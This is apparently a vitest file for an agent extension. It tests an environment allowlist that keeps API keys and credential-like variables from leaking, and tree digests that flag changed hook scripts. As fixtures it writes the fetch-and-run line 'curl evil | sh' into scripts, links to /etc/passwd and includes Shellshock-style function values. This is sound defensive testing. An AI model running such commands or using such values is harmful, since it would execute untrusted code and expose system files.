// The allowlists and fingerprints extension trust rests on: which variables may leave the agent, and
// the file digests that make a changed script ask again.
import { chmod, mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { describeDigestChanges, digestOfDigests, linksOut, treeDigest } from "../../../src/util/file-digest.js";
import {
  filterEnvironment,
  isCredentialLike,
  isModelKeyVariable,
  isPassableVariable,
} from "../../../src/util/secret-env.js";

describe("environment allowlist", () => {
  it("passes base variables, never model keys, and credential-like names only when listed", () => {
    expect(isPassableVariable("PATH")).toBe(true);
    expect(isPassableVariable("LC_ALL")).toBe(true);
    expect(isPassableVariable("SSL_CERT_FILE")).toBe(true);
    expect(isPassableVariable("GITHUB_TOKEN")).toBe(false);
    expect(isPassableVariable("GITHUB_TOKEN", { allowed: ["GITHUB_TOKEN"] })).toBe(true);
    for (const key of [
      "ANTHROPIC_API_KEY",
      "OPENAI_API_KEY",
      "GEMINI_API_KEY",
      "OPENROUTER_API_KEY",
      "DEEP_ACP_MODEL",
    ]) {
      expect(isModelKeyVariable(key)).toBe(true);
      expect(isPassableVariable(key, { allowed: [key] })).toBe(false);
    }
    expect(isCredentialLike("MONGODB_URI")).toBe(true);
    expect(isCredentialLike("EDITOR")).toBe(false);
    expect(isCredentialLike("PWD")).toBe(false);
    expect(isCredentialLike("DB_PWD")).toBe(true);
    expect(filterEnvironment({ PATH: "/bin", F: "() { :; }", TERM: "() { x; }", HOME: "/h" })).toEqual({
      PATH: "/bin",
      HOME: "/h",
    });
  });
});

describe("tree digests", () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), "deep-acp-digest-"));
    await mkdir(join(dir, "hooks"));
    await mkdir(join(dir, ".git"));
    await writeFile(join(dir, "hooks", "check.sh"), "echo ok\n");
    await writeFile(join(dir, ".git", "HEAD"), "ref\n");
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  it("covers contents, the executable bit, symlink targets, added and removed files; skips .git", async () => {
    const before = await treeDigest(dir, { skipDirs: [".git"] });
    expect(Object.keys(before)).toEqual(["hooks/check.sh"]);
    await writeFile(join(dir, ".git", "HEAD"), "other\n");
    expect(digestOfDigests(await treeDigest(dir, { skipDirs: [".git"] }))).toBe(digestOfDigests(before));

    await writeFile(join(dir, "hooks", "check.sh"), "curl evil | sh\n");
    await symlink("/etc/passwd", join(dir, "hooks", "link"));
    await writeFile(join(dir, "new.js"), "x");
    const after = await treeDigest(dir, { skipDirs: [".git"] });
    expect(describeDigestChanges(before, after)).toEqual([
      "hooks/check.sh changed",
      "hooks/link added",
      "new.js added",
    ]);
    await chmod(join(dir, "new.js"), 0o755);
    expect(describeDigestChanges(after, await treeDigest(dir, { skipDirs: [".git"] }))).toEqual(["new.js changed"]);
    expect(describeDigestChanges(after, {})).toEqual([
      "hooks/check.sh removed",
      "hooks/link removed",
      "new.js removed",
    ]);
  });

  it("follows a link to a folder outside the tree: its files count under the link's name, executable bits too", async () => {
    const outside = await mkdtemp(join(tmpdir(), "deep-acp-digest-out-"));
    try {
      await mkdir(join(outside, "sub"));
      await writeFile(join(outside, "sub", "run.sh"), "echo ok\n");
      await symlink(outside, join(dir, "shared"));
      const before = await treeDigest(dir, { skipDirs: [".git"] });
      expect(Object.keys(before).sort()).toEqual(["hooks/check.sh", "shared", "shared/sub/run.sh"]);
      expect(linksOut(before)).toEqual([{ name: "shared", target: await realpath(outside) }]);

      await chmod(join(outside, "sub", "run.sh"), 0o755);
      const chmodded = await treeDigest(dir, { skipDirs: [".git"] });
      expect(describeDigestChanges(before, chmodded)).toEqual(["shared/sub/run.sh changed"]);
      await writeFile(join(outside, "sub", "run.sh"), "curl evil | sh\n");
      expect(describeDigestChanges(chmodded, await treeDigest(dir, { skipDirs: [".git"] }))).toEqual([
        "shared/sub/run.sh changed",
      ]);
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });
});
